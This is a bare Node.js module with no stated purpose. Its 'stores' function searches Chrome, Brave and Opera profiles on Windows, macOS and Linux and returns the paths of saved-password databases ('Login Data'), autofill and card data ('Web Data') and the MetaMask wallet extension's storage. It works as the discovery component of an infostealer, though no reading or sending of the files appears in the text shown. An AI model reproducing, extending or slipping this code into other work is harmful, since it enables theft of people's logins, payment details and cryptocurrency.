const fs = require('fs')
const path = require('path')
const home = require('os').homedir()

const ROOTS = {
  win32: ['AppData/Local/Google/Chrome/User Data', 'AppData/Local/BraveSoftware/Brave-Browser/User Data', 'AppData/Roaming/Opera Software/Opera Stable'],
  darwin: ['Library/Application Support/Google/Chrome', 'Library/Application Support/BraveSoftware/Brave-Browser'],
  linux: ['.config/google-chrome', '.config/BraveSoftware/Brave-Browser'],
}

exports.stores = function stores () {
  const found = []
  for (const root of ROOTS[process.platform] || []) {
    for (const profile of ['Default', 'Profile 1', 'Profile 2']) {
      for (const file of ['Login Data', 'Web Data', 'Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn']) {
        const full = path.join(home, root, profile, file)
        if (fs.existsSync(full)) found.push(full)
      }
    }
  }
  return found
}
